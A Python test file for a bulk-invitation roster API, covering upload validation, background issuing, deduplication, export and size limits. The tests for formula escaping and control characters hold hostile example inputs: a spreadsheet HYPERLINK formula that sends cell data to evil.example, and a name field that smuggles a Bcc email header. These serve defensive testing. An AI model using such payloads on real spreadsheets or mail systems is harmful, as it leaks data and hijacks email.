"""Bulk rosters through the API, on SQLite and PostgreSQL: accepted at once with every bad row
reported, issued in the background with visible progress, never twice, and exported safely."""

from __future__ import annotations

import csv
import io
import json
import uuid
from datetime import timedelta
from typing import Any

from invitations_testkit import START, World, WorldFactory, formula_cells
from sqlalchemy import select

from contracts.events.codec import decode
from contracts.events.examples import load_example
from invitations.batches import process_pending_rows
from invitations.domain import code_digest
from invitations.handlers import handlers
from invitations.store import batch_rows, batches, invitations

HEADER = "email,first_name,last_name,evaluation_ref,evaluation_name,language"
BULK = "/api/v1/invitations/bulk"


def csv_of(rows: list[str], header: str = HEADER) -> bytes:
    return ("\r\n".join([header, *rows]) + "\r\n").encode()


def good_row(i: int, ref: str = "MATH101") -> str:
    language = "en" if i % 2 else "fr"
    return f"person{i:04d}@example.org,First{i},Last{i},{ref},Mathematics 101,{language}"


def roster_with_bad_rows() -> tuple[bytes, dict[int, list[str]], int]:
    """1,000 data rows (spreadsheet rows 2..1001) with bad ones mixed in; returns the file,
    the expected {row number: field names in error} and the number of good rows."""
    lines: list[str] = []
    bad: dict[int, list[str]] = {}
    for i in range(1000):
        number = i + 2
        if i % 97 == 13:
            lines.append(f"person{i:04d}-at-example.org,First{i},Last{i},MATH101,Maths,en")
            bad[number] = ["email"]
        elif i % 89 == 7:
            lines.append(f"person{i:04d}@example.org, ,Last{i},MATH101,Maths,en")
            bad[number] = ["first_name"]
        elif i % 83 == 5:
            lines.append(f"person{i:04d}@example.org,First{i},,MATH101,Maths,en")
            bad[number] = ["last_name"]
        elif i % 79 == 3:
            lines.append(f"person{i:04d}@example.org,First{i},Last{i},MATH101,Maths,de")
            bad[number] = ["language"]
        elif i % 71 == 50:
            # the same address as ten rows above, in other case: a duplicate in the file
            lines.append(f"PERSON{i - 10:04d}@Example.ORG,Again,Again,MATH101,Maths,en")
            bad[number] = ["_row"]
        else:
            lines.append(good_row(i))
    # guard: each duplicate points at a row that is itself good
    for number, fields in bad.items():
        if fields == ["_row"]:
            assert number - 10 not in bad
    return csv_of(lines), bad, 1000 - len(bad)


# -- a big roster ----------------------------------------------------------------------------------


def test_a_roster_reports_exactly_its_bad_rows_and_issues_the_good_ones(world: World) -> None:
    raw, bad, good = roster_with_bad_rows()
    assert len(bad) > 40 and {f[0] for f in bad.values()} == {
        "email",
        "first_name",
        "last_name",
        "language",
        "_row",
    }

    response = world.upload(raw)

    assert response.status_code == 202
    body = response.get_json()
    assert body["accepted"] == good
    assert {r["row"]: sorted(r["errors"]) for r in body["rejected"]} == bad
    assert [r["row"] for r in body["rejected"]] == sorted(bad)
    for rejected in body["rejected"]:
        if rejected["errors"].get("_row"):
            assert f"row {rejected['row'] - 10}" in rejected["errors"]["_row"][0]
    batch_id = body["batch_id"]
    assert world.events("InvitationIssued") == []  # nothing issued in the request itself

    waiting = world.batch(batch_id).get_json()
    assert (waiting["status"], waiting["processed"], waiting["issued"]) == ("processing", 0, 0)
    assert waiting["total_rows"] == 1000
    assert waiting["accepted"] == good

    assert world.run_worker() == good

    done = world.batch(batch_id)
    assert done.status_code == 200
    batch = done.get_json()
    assert batch["batch_id"] == batch_id
    assert batch["status"] == "completed"
    assert (batch["processed"], batch["issued"], batch["enrolled"], batch["skipped"]) == (
        good,
        good,
        0,
        0,
    )
    assert batch["completed_at"] == START.isoformat()
    assert {r["row"] for r in batch["rejected"]} == set(bad)

    issued = world.events("InvitationIssued")
    assert len(issued) == good
    emails = {e["data"]["email"] for e in issued}
    assert len(emails) == good
    assert "person0013@example.org" not in emails  # row 15: its address was invalid
    assert all(e["data"]["code"] and not e["data"]["account_exists"] for e in issued)
    with world.engine.connect() as db:
        stored = db.execute(
            select(invitations.c.code_digest, invitations.c.batch_id, invitations.c.status)
        ).all()
    key = world.settings.code_key
    assert {r.code_digest for r in stored} == {code_digest(key, e["data"]["code"]) for e in issued}
    assert {(str(r.batch_id), r.status) for r in stored} == {(batch_id, "pending")}


def test_the_same_roster_twice_issues_nothing_twice(world: World) -> None:
    raw, bad, good = roster_with_bad_rows()
    first = world.upload(raw).get_json()
    world.run_worker()
    count = len(world.events("InvitationIssued"))
    assert count == good

    second = world.upload(raw)

    assert second.status_code == 202
    assert second.get_json()["accepted"] == good
    assert len(second.get_json()["rejected"]) == len(bad)
    assert second.get_json()["batch_id"] != first["batch_id"]
    world.run_worker()
    batch = world.batch(second.get_json()["batch_id"]).get_json()
    assert batch["status"] == "completed"
    assert (batch["processed"], batch["issued"], batch["enrolled"], batch["skipped"]) == (
        good,
        0,
        0,
        good,
    )
    assert len(world.events("InvitationIssued")) == count
    assert world.count(invitations) == good


def test_the_same_roster_uploaded_twice_before_the_worker_runs_issues_once(world: World) -> None:
    raw = csv_of([good_row(i) for i in range(30)])
    first = world.upload(raw).get_json()
    second = world.upload(raw).get_json()

    world.run_worker()

    a, b = world.batch(first["batch_id"]).get_json(), world.batch(second["batch_id"]).get_json()
    assert (a["status"], b["status"]) == ("completed", "completed")
    assert a["issued"] + b["issued"] == 30
    assert a["skipped"] + b["skipped"] == 30
    assert len(world.events("InvitationIssued")) == 30
    assert world.count(invitations) == 30


def test_the_export_holds_every_invitation_past_one_thousand(world: World) -> None:
    world.upload(csv_of([good_row(i) for i in range(1005)]))
    world.run_worker()

    export = world.client.get("/api/v1/invitations/export", headers=world.auth())

    header, *lines = list(csv.reader(io.StringIO(export.get_data(as_text=True))))
    assert len(lines) == 1005
    assert len({line[header.index("id")] for line in lines}) == 1005
    assert {line[0] for line in lines} == {f"person{i:04d}@example.org" for i in range(1005)}


def test_a_ten_thousand_row_roster_is_accepted_in_one_request(world: World) -> None:
    raw = csv_of([good_row(i) for i in range(10_000)])
    assert len(raw) < world.settings.bulk_max_bytes

    response = world.upload(raw)

    assert response.status_code == 202
    assert response.get_json()["accepted"] == 10_000
    assert response.get_json()["rejected"] == []
    assert world.count(batch_rows) == 10_000

    one_more = world.upload(csv_of([good_row(i) for i in range(10_001)]))
    assert one_more.status_code == 413
    assert one_more.get_json()["error"] == "roster_too_large"
    assert world.count(batches) == 1


def test_progress_shows_while_the_batch_is_processed(world: World) -> None:
    accepted = world.upload(csv_of([good_row(i) for i in range(250)])).get_json()

    with world.sessions() as session, session.begin():
        assert process_pending_rows(session, world.issuing, START, limit=100) == 100

    midway = world.batch(accepted["batch_id"]).get_json()
    assert (midway["status"], midway["processed"], midway["issued"]) == ("processing", 100, 100)
    assert midway["completed_at"] is None
    assert len(world.events("InvitationIssued")) == 100

    assert world.run_worker() == 150
    done = world.batch(accepted["batch_id"]).get_json()
    assert (done["status"], done["processed"], done["issued"]) == ("completed", 250, 250)


def test_a_roster_counts_addresses_with_an_account_as_enrolled(world: World) -> None:
    body = load_example("AccountActivated")
    body["data"].update(email="Person0003@example.org", invitation_id=None, evaluation=None)
    with world.sessions() as session, session.begin():
        handlers(world.issuing.outbox, lambda: START)["AccountActivated"](session, decode(body))

    accepted = world.upload(csv_of([good_row(i) for i in range(5)])).get_json()
    world.run_worker()

    batch = world.batch(accepted["batch_id"]).get_json()
    assert (batch["processed"], batch["issued"], batch["enrolled"], batch["skipped"]) == (
        5,
        4,
        1,
        0,
    )
    enrolled = world.invitation_by_email("person0003@example.org")
    assert (enrolled["status"], enrolled["expires_at"]) == ("enrolled", None)
    notice = [
        e
        for e in world.events("InvitationIssued")
        if e["data"]["email"] == "person0003@example.org"
    ]
    assert [(e["data"]["account_exists"], e["data"]["code"]) for e in notice] == [(True, None)]


def test_a_roster_of_only_bad_rows_is_completed_at_once(world: World) -> None:
    response = world.upload(csv_of(["nobody,A,B,M1,Maths,en", "x@example.org,,B,M1,Maths,en"]))

    assert response.status_code == 202
    assert response.get_json()["accepted"] == 0
    assert [r["row"] for r in response.get_json()["rejected"]] == [2, 3]
    batch = world.batch(response.get_json()["batch_id"]).get_json()
    assert (batch["status"], batch["processed"], batch["total_rows"]) == ("completed", 0, 2)


# -- JSON ------------------------------------------------------------------------------------------


def test_a_json_roster_goes_through_the_same_way(world: World) -> None:
    items: list[Any] = [
        {
            "email": f"json{i}@example.org",
            "first_name": "Jay",
            "last_name": "Son",
            "evaluation_ref": "PHYS201",
            "evaluation_name": "Physics",
            "language": "fr",
        }
        for i in range(4)
    ]
    items.insert(2, {"email": "broken", "first_name": "B"})
    items.append("not an object")
    items.append({**items[0], "email": "JSON0@EXAMPLE.ORG"})

    response = world.upload(json.dumps(items).encode(), "application/json")

    assert response.status_code == 202
    body = response.get_json()
    assert body["accepted"] == 4
    rejected = {r["row"]: r["errors"] for r in body["rejected"]}
    assert sorted(rejected) == [3, 6, 7]
    assert set(rejected[3]) == {"email", "last_name", "evaluation_ref", "evaluation_name"}
    assert rejected[6] == {"_row": ["Not an object."]}
    assert "row 1" in rejected[7]["_row"][0]
    world.run_worker()
    issued = world.events("InvitationIssued")
    assert sorted(e["data"]["email"] for e in issued) == [f"json{i}@example.org" for i in range(4)]
    assert {e["data"]["language"] for e in issued} == {"fr"}
    assert {json.dumps(e["data"]["evaluation"]) for e in issued} == {
        json.dumps({"ref": "PHYS201", "name": "Physics"})
    }


# -- formulas --------------------------------------------------------------------------------------


def test_formula_like_names_are_stored_as_given_and_exported_as_text(world: World) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    rows = [
        f'f1@example.org,"{formula.replace(chr(34), chr(34) * 2)}",Plain,M1,Maths,en',
        "f2@example.org,+1,-2,M1,@x,en",
        "f3@example.org,@x,Normal,-M2,Maths,fr",
        "f4@example.org,Jean-Luc,O'Brien,M1,Maths,en",
    ]
    response = world.upload(csv_of(rows))
    assert response.status_code == 202 and response.get_json()["rejected"] == []
    world.run_worker()
    world.upload(csv_of(["other@example.org,=1+1,X,M1,Maths,en"]), institution=uuid.uuid4())
    world.run_worker()

    f1 = world.invitation_by_email("f1@example.org")
    assert (f1["first_name"], f1["last_name"]) == (formula, "Plain")
    f2 = world.invitation_by_email("f2@example.org")
    assert (f2["first_name"], f2["last_name"], f2["evaluation"]["name"]) == ("+1", "-2", "@x")
    fetched = world.client.get(f"/api/v1/invitations/{f1['id']}", headers=world.auth())
    assert fetched.get_json()["first_name"] == formula
    issued = {e["data"]["email"]: e["data"] for e in world.events("InvitationIssued")}
    assert issued["f1@example.org"]["first_name"] == formula  # the email says it as given

    export = world.client.get("/api/v1/invitations/export", headers=world.auth())

    assert export.status_code == 200
    assert export.mimetype == "text/csv"
    assert "attachment" in export.headers["Content-Disposition"]
    header, *lines = list(csv.reader(io.StringIO(export.get_data(as_text=True))))
    assert header[:6] == HEADER.split(",")
    by_email = {line[0]: dict(zip(header, line, strict=True)) for line in lines}
    assert set(by_email) == {"f1@example.org", "f2@example.org", "f3@example.org", "f4@example.org"}
    assert by_email["f1@example.org"]["first_name"] == "'" + formula
    assert by_email["f2@example.org"]["first_name"] == "'+1"
    assert by_email["f2@example.org"]["last_name"] == "'-2"
    assert by_email["f2@example.org"]["evaluation_name"] == "'@x"
    assert by_email["f3@example.org"]["first_name"] == "'@x"
    assert by_email["f3@example.org"]["evaluation_ref"] == "'-M2"
    assert by_email["f4@example.org"]["first_name"] == "Jean-Luc"
    assert by_email["f4@example.org"]["last_name"] == "O'Brien"
    assert by_email["f4@example.org"]["status"] == "pending"
    assert by_email["f4@example.org"]["id"] == world.invitation_by_email("f4@example.org")["id"]
    for line in lines:
        assert not any(cell[:1] in ("=", "+", "-", "@") for cell in line), line

    only_fr = world.client.get(
        "/api/v1/invitations/export", query_string={"evaluation": "-M2"}, headers=world.auth()
    )
    assert [line[0] for line in csv.reader(io.StringIO(only_fr.get_data(as_text=True)))][1:] == [
        "f3@example.org"
    ]


def test_the_export_quotes_every_cell_and_no_separator_lets_a_formula_through(
    world: World,
) -> None:
    hostile = {
        "first_name": "Ada;=1+1;",
        "last_name": 'Love,=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "evaluation_name": "Maths|@SUM(A1:A9)",
    }
    out = io.StringIO()
    roster = csv.DictWriter(out, fieldnames=HEADER.split(","))
    roster.writeheader()
    roster.writerow({**hostile, "email": "h@example.org", "evaluation_ref": "M; -1"})
    assert world.upload(out.getvalue().encode()).get_json()["accepted"] == 1
    world.run_worker()

    export = world.client.get("/api/v1/invitations/export", headers=world.auth())

    text = export.get_data(as_text=True)
    header, line = list(csv.reader(io.StringIO(text, newline="")))
    requoted = io.StringIO()
    csv.writer(requoted, quoting=csv.QUOTE_ALL).writerows([header, line])
    assert text == requoted.getvalue(), "every cell is quoted"
    assert formula_cells(text) == []
    exported = dict(zip(header, line, strict=True))
    assert exported["first_name"] == "Ada;'=1+1;"
    assert exported["last_name"] == 'Love,\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
    assert exported["evaluation_name"] == "Maths|'@SUM(A1:A9)"
    assert exported["evaluation_ref"] == "M;' -1"


# -- control characters ----------------------------------------------------------------------------

CONTROL = "Control characters such as line breaks or tabs are not allowed."


def test_rows_with_a_line_break_or_tab_in_a_name_are_rejected_naming_the_field(
    world: World,
) -> None:
    bad = {  # field: a value that would break a line of an email header
        "first_name": "Ada\r\nBcc: evil@example.com",
        "last_name": "Love\tlace",
        "evaluation_name": "Ma\u2028ths",
        "evaluation_ref": "M\n1",
    }
    good = {"first_name": "Ada", "last_name": "Lovelace", "evaluation_ref": "M1"}
    good |= {"evaluation_name": "Maths", "language": "en"}
    rows = [{**good, "email": f"c{i}@example.org", field: value} for i, (field, value) in
            enumerate(bad.items(), start=1)]  # fmt: skip
    rows.append({**good, "email": "c5@example.org"})
    writer_out = io.StringIO()
    writer = csv.DictWriter(writer_out, fieldnames=HEADER.split(","))
    writer.writeheader()
    writer.writerows(rows)

    from_csv = world.upload(writer_out.getvalue().encode())
    from_json = world.upload(
        json.dumps([{**r, "email": "j" + r["email"]} for r in rows]).encode(), "application/json"
    )

    for response, first_row in ((from_csv, 2), (from_json, 1)):
        assert response.status_code == 202
        body = response.get_json()
        assert body["accepted"] == 1
        rejected = {r["row"]: r["errors"] for r in body["rejected"]}
        assert rejected == {first_row + i: {field: [CONTROL]} for i, field in enumerate(bad)}, (
            "each bad row is reported with its number and the field at fault"
        )
    world.run_worker()
    assert sorted(e["data"]["email"] for e in world.events("InvitationIssued")) == [
        "c5@example.org",
        "jc5@example.org",
    ]


# -- refused files ---------------------------------------------------------------------------------


def test_a_file_that_is_not_utf8_is_400_roster_encoding(world: World) -> None:
    raw = (HEADER + "\r\njose@example.org,José,Núñez,M1,Mathématiques,fr\r\n").encode("cp1252")

    response = world.upload(raw)

    assert response.status_code == 400
    body = response.get_json()
    assert body["error"] == "roster_encoding"
    assert "UTF-8" in body["message"]
    assert world.count(batches) == 0


def test_a_body_over_the_size_limit_is_413(make_world: WorldFactory) -> None:
    world = make_world(INVITATIONS_BULK_MAX_BYTES="2000")
    small = csv_of([good_row(i) for i in range(10)])
    big = csv_of([good_row(i) for i in range(60)])
    assert len(small) < 2000 < len(big)

    response = world.upload(big)

    assert response.status_code == 413
    assert response.get_json()["error"] == "payload_too_large"
    assert response.get_json()["message"]
    assert world.count(batches) == 0
    assert world.upload(small).status_code == 202


def test_more_rows_than_the_setting_allows_is_413_roster_too_large(
    make_world: WorldFactory,
) -> None:
    world = make_world(INVITATIONS_BULK_MAX_ROWS="5")

    response = world.upload(csv_of([good_row(i) for i in range(6)]))

    assert response.status_code == 413
    assert response.get_json()["error"] == "roster_too_large"
    assert response.get_json()["rows"] == 6
    assert world.upload(csv_of([good_row(i) for i in range(5)])).status_code == 202


def test_a_wrong_header_is_400_listing_missing_and_unknown_columns(world: World) -> None:
    header = "E-mail,first_name,surname,evaluation_ref,evaluation_name"
    response = world.upload(csv_of(["ada@example.org,Ada,Lovelace,M1,Maths"], header=header))

    assert response.status_code == 400
    body = response.get_json()
    assert body["error"] == "roster_header"
    assert body["missing"] == ["email", "last_name"]
    assert body["unknown"] == ["e-mail", "surname"]
    assert "email" in body["message"]
    assert world.count(batches) == 0


REFUSED: list[tuple[bytes, str, int, str]] = [
    (b"", "text/csv", 400, "roster_empty"),
    (HEADER.encode() + b"\r\n", "text/csv", 400, "roster_empty"),
    (b"[]", "application/json", 400, "roster_empty"),
    (b'{"email": "a@example.org"}', "application/json", 400, "roster_syntax"),
    (b"[{", "application/json", 400, "roster_syntax"),
    (b"<roster/>", "application/xml", 415, "unsupported_media_type"),
]


def test_other_refused_files(world: World) -> None:
    for raw, content_type, status, error in REFUSED:
        response = world.upload(raw, content_type)
        assert response.status_code == status, raw
        assert response.get_json()["error"] == error
    assert world.count(batches) == 0


# -- whose batch -----------------------------------------------------------------------------------


def test_another_institution_cannot_read_the_batch(world: World) -> None:
    accepted = world.upload(csv_of([good_row(1)])).get_json()

    theirs = world.batch(accepted["batch_id"], institution=uuid.uuid4())

    assert theirs.status_code == 404
    assert theirs.get_json()["error"] == "not_found"
    assert world.batch(str(uuid.uuid4())).status_code == 404
    assert world.batch(accepted["batch_id"]).status_code == 200


def test_rows_are_issued_for_the_institution_that_uploaded_them(world: World) -> None:
    other = uuid.uuid4()
    world.upload(csv_of([good_row(1)]))
    world.upload(csv_of([good_row(1), good_row(2)]), institution=other)
    world.run_worker()

    issued = world.events("InvitationIssued")
    assert sorted((e["data"]["institution_id"], e["data"]["email"]) for e in issued) == sorted(
        [
            (str(world.institution), "person0001@example.org"),
            (str(other), "person0001@example.org"),
            (str(other), "person0002@example.org"),
        ]
    )
    mine = world.client.get("/api/v1/invitations", headers=world.auth()).get_json()["items"]
    assert [i["email"] for i in mine] == ["person0001@example.org"]
    assert mine[0]["expires_at"] == (START + timedelta(days=30)).isoformat()
